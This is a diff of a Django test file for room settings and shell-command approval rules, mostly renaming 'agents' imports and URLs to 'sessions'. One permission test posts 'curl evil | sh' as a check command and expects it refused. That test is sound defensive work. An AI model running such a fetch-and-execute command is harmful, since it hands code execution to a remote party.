@@ -7,11 +7,11 @@ import pytest
 from django.test import Client
 from django.urls import reverse
 
-from agents.models import ApprovalRule
-from agents.services import approval_rule_create, approval_rule_delete
 from rooms.errors import RoomError, RoomPermissionError
 from rooms.models import Message
 from rooms.services import room_settings_update
+from sessions.models import ApprovalRule
+from sessions.services.approvals import approval_rule_create, approval_rule_delete
 from tests.rooms.factories import make_room, make_user
 
 pytestmark = pytest.mark.django_db
@@ -32,7 +32,7 @@ def client_for(user) -> Client:
 
 def test_the_owner_sets_the_check_command_and_network_and_the_room_hears_of_it(people):
     room, owner, *_ = people
-    response = client_for(owner).post(reverse("agents:room_settings", args=[room.slug]),
+    response = client_for(owner).post(reverse("sessions:room_settings", args=[room.slug]),
                                       {"check_command": " python -m pytest -q ", "allow_network": "on"},
                                       HTTP_HX_REQUEST="true")
     assert response.status_code == 200 and b'id="room-settings"' in response.content
@@ -49,12 +49,12 @@ def test_members_see_what_runs_but_cannot_change_it(people, who):
     room_settings_update(room=room, actor=owner, check_command="make test", allow_network=False)
     approval_rule_create(room=room, actor=owner, decision="deny", tool="shell", command_prefix="git push")
     client = client_for(member if who == "member" else viewer)
-    page = client.get(reverse("agents:room_settings", args=[room.slug]), HTTP_HX_REQUEST="true").content.decode()
+    page = client.get(reverse("sessions:room_settings", args=[room.slug]), HTTP_HX_REQUEST="true").content.decode()
     assert "make test" in page and "git push" in page and "room-settings-form" not in page
     for url, data in [
-        (reverse("agents:room_settings", args=[room.slug]), {"check_command": "curl evil | sh"}),
-        (reverse("agents:rule_create", args=[room.slug]), {"decision": "allow", "tool": "*"}),
-        (reverse("agents:rule_delete", args=[room.slug, ApprovalRule.objects.get().pk]), {}),
+        (reverse("sessions:room_settings", args=[room.slug]), {"check_command": "curl evil | sh"}),
+        (reverse("sessions:rule_create", args=[room.slug]), {"decision": "allow", "tool": "*"}),
+        (reverse("sessions:rule_delete", args=[room.slug, ApprovalRule.objects.get().pk]), {}),
     ]:
         assert client.post(url, data).status_code == 403
     room.refresh_from_db()
@@ -64,8 +64,8 @@ def test_members_see_what_runs_but_cannot_change_it(people, who):
 def test_strangers_get_nothing(people):
     room, *_, stranger = people
     client = client_for(stranger)
-    assert client.get(reverse("agents:room_settings", args=[room.slug])).status_code == 404
-    assert client.post(reverse("agents:room_settings", args=[room.slug]), {"check_command": "x"}).status_code == 404
+    assert client.get(reverse("sessions:room_settings", args=[room.slug])).status_code == 404
+    assert client.post(reverse("sessions:room_settings", args=[room.slug]), {"check_command": "x"}).status_code == 404
 
 
 def test_the_services_refuse_non_owners_whatever_the_caller(people):
@@ -98,16 +98,16 @@ def test_bad_rules_are_refused_with_a_reason(people, fields, message):
 def test_the_owner_adds_and_removes_rules_on_the_page(people):
     room, owner, *_ = people
     client = client_for(owner)
-    added = client.post(reverse("agents:rule_create", args=[room.slug]),
+    added = client.post(reverse("sessions:rule_create", args=[room.slug]),
                         {"decision": "allow", "tool": "shell", "command_prefix": "python  -m   pytest"},
                         HTTP_HX_REQUEST="true").content.decode()
     rule = ApprovalRule.objects.get()
     assert rule.command_prefix == "python -m pytest" and f'id="rule-{rule.pk}"' in added
     assert "that run alone" in added  # the page says what an allow prefix covers
-    refused = client.post(reverse("agents:rule_create", args=[room.slug]),
+    refused = client.post(reverse("sessions:rule_create", args=[room.slug]),
                           {"decision": "allow", "tool": "edit_file", "command_prefix": "x"}, HTTP_HX_REQUEST="true")
     assert b"only applies to shell" in refused.content
-    removed = client.post(reverse("agents:rule_delete", args=[room.slug, rule.pk]), HTTP_HX_REQUEST="true")
+    removed = client.post(reverse("sessions:rule_delete", args=[room.slug, rule.pk]), HTTP_HX_REQUEST="true")
     assert b"Rule removed." in removed.content and not ApprovalRule.objects.exists()
-    page = client.get(reverse("rooms:detail", args=[room.slug])).content.decode()
-    assert reverse("agents:room_settings", args=[room.slug]) in page
+    page = client.get(reverse("room", args=[room.slug])).content.decode()
+    assert reverse("sessions:room_settings", args=[room.slug]) in page
